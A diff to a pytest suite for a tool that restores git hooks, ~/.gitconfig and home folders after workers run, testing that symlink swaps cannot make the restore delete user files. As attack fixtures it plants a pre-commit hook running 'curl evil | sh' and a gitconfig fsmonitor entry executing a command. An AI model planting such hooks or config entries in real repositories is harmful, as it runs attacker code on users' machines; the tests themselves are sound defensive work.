@@ -3,6 +3,7 @@ from __future__ import annotations
 
 import os
 import subprocess
+from pathlib import Path
 
 import pytest
 
@@ -224,20 +225,24 @@ def test_a_config_file_past_what_is_read_halts_rather_than_hide_a_driver(tmp_pat
 
 
 def test_a_link_leading_into_your_checkout_is_never_written_through(tmp_path, monkeypatch):
-    """rv26: a link in $HOME leading into your checkout (or the recorder's journal) had every later change of
-    what it leads to put back: your edit reverted, the journal cut short. Only the link is put back."""
-    home, repo = tmp_path / "home", tmp_path / "repo"
-    (repo / ".git").mkdir(parents=True)
-    home.mkdir()
-    (repo / "src.py").write_text("v1\n")
-    monkeypatch.setenv("HOME", str(home))
-    (home / ".gitconfig").symlink_to(repo / "src.py")
-    before = fingerprint.Fingerprint(repo / ".git", home={home / ".gitconfig": fingerprint.read_watched(home / ".gitconfig")},
-                                     places={home / ".gitconfig": str(home)})
-    (repo / "src.py").write_text("v2, yours\n")
-    put_back = fingerprint.restore(before)
-    assert put_back and fingerprint.NOT_PUT_BACK in put_back[0] and "leads into" in put_back[0], put_back
-    assert (repo / "src.py").read_text() == "v2, yours\n"
+    """rv26, rv28: a link in $HOME or .git/hooks leading into your checkout (a hook linked to scripts/, a
+    ~/.gitconfig kept in the project) had every change of what it leads to put back: your edit reverted, the
+    workers blamed. What it leads to is your checkout's, watched as the checkout (a warning, never a put-back)."""
+    home, repo = _home(tmp_path, monkeypatch)
+    (repo / "scripts").mkdir()
+    (repo / "scripts" / "pre-push").write_text("echo v1\n")
+    (repo / "gitconfig").write_text("[user]\n\tname = You\n")
+    (repo / ".git" / "hooks" / "pre-push").symlink_to("../../scripts/pre-push")
+    (repo / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/pre-commit")  # not written yet
+    (home / ".gitconfig").symlink_to(repo / "gitconfig")
+    before = fingerprint.take(repo, set())
+    (repo / "scripts" / "pre-push").write_text("echo v2, yours\n")
+    (repo / "scripts" / "pre-commit").write_text("echo new, yours\n")
+    (repo / "gitconfig").write_text("[user]\n\tname = You, renamed\n")
+    assert fingerprint.compare(before, fingerprint.take(repo, set()))[0] == []
+    assert fingerprint.restore(before) == []
+    assert (repo / "scripts" / "pre-push").read_text() == "echo v2, yours\n"
+    assert (repo / "scripts" / "pre-commit").exists() and "renamed" in (repo / "gitconfig").read_text()
 
 
 def test_a_folder_swapped_for_a_link_after_the_folders_were_put_back_is_never_gone_through(tmp_path, monkeypatch):
@@ -362,3 +367,75 @@ def test_hooks_of_yours_linked_into_home_and_re_pointed_further_on_remove_nothin
     put_back = fingerprint._put_back(common, before, ".git")
     assert put_back == [f".git/hooks/{fingerprint.NOT_PUT_BACK}it leads elsewhere than when it was watched)"]
     assert sorted(os.listdir(tmp_path / "thesis")) == ["main.tex"]
+
+
+def test_a_git_dir_swapped_for_a_link_before_the_put_back_is_not_written_through(tmp_path, monkeypatch):
+    """rv28: the git dir's place was read at put-back time: a worker without the sandbox that planted a hook and
+    then swapped .git for a link to ~/thesis had the put-back remove and write files there."""
+    home, repo = _home(tmp_path, monkeypatch)
+    before = fingerprint.take(repo, set())
+    (repo / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    thesis = home / "thesis"
+    (thesis / "hooks").mkdir(parents=True)
+    (thesis / "hooks" / "chapter1.tex").write_text("years of work\n")
+    (thesis / "config").write_text("mine\n")
+    os.rename(repo / ".git", tmp_path / "git-aside")
+    (repo / ".git").symlink_to(thesis)
+    put_back = fingerprint.restore(before)
+    assert any(fingerprint.NOT_PUT_BACK in what for what in put_back), put_back
+    assert (thesis / "hooks" / "chapter1.tex").exists() and (thesis / "config").read_text() == "mine\n"
+
+
+def test_what_cannot_be_read_or_listed_is_recorded_not_raised(tmp_path, monkeypatch):
+    """rv28: a NUL in a path a config names (git cuts it there) raised ValueError, and folders nested 1,200
+    deep in .git/hooks raised RecursionError from Path.rglob (exit 70); a keep folder a worker made a file
+    crashed the put-back, leaving everything planted in place."""
+    from orchestrate import git_config
+    assert fingerprint.read_watched(Path("/tmp/a\0b")) == b"u"
+    assert git_config.read(Path("/tmp/a\0b"), set()) == []
+    common = tmp_path / ".git"
+    deep = common / "hooks"
+    deep.mkdir(parents=True)
+    fd = os.open(deep, os.O_RDONLY)
+    for _ in range(1300):
+        os.mkdir("d", dir_fd=fd)
+        inner = os.open("d", os.O_RDONLY, dir_fd=fd)
+        os.close(fd)
+        fd = inner
+    os.close(os.open("x", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))
+    os.close(fd)
+    try:
+        assert any(name.endswith("/x") for name in fingerprint.take_files(common))
+    finally:  # pytest's own clean-up of old temporary folders recurses, and would fail on it
+        from orchestrate import removal
+        removal.remove(deep / "d")
+    home, repo = _home(tmp_path, monkeypatch)
+    (home / ".gitconfig").write_text("[user]\n\tname = You\n")
+    before = fingerprint.take(repo, set())
+    (home / ".gitconfig").write_text("[core]\n\tfsmonitor = touch /tmp/pwned\n")
+    (tmp_path / "keep").write_text("a worker's file where the folder for kept edits goes\n")
+    assert fingerprint.restore(before, keep=tmp_path / "keep" / "sub") == ["~/.gitconfig"]
+    assert (home / ".gitconfig").read_text() == "[user]\n\tname = You\n"
+
+
+def test_a_folder_swapped_again_while_the_folders_are_put_back_is_never_gone_through(tmp_path, monkeypatch):
+    """rv28: the folders on the way to a watched file were put back by path: ~/.config swapped for a link to ~/bin
+    again right after it was made a folder had ~/.config/git put back through it, removing your ~/bin/git."""
+    home, repo = _home(tmp_path, monkeypatch)
+    (home / ".config" / "git").mkdir(parents=True)
+    (home / "bin").mkdir()
+    (home / "bin" / "git").write_text("#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
+    before = fingerprint.take(repo, set())
+    os.rename(home / ".config", tmp_path / "aside")
+    (home / ".config").symlink_to(home / "bin")
+    real = fingerprint._folder
+
+    def raced(folder):  # the worker, still running, swaps ~/.config again once it was put back
+        if folder == home / ".config" / "git" and not (home / ".config").is_symlink():
+            os.rmdir(home / ".config")
+            (home / ".config").symlink_to(home / "bin")
+        return real(folder)
+    monkeypatch.setattr(fingerprint, "_folder", raced)
+    put_back = fingerprint.restore(before)
+    assert (home / "bin" / "git").is_file(), put_back
+    assert any(fingerprint.NOT_PUT_BACK in what for what in put_back), put_back
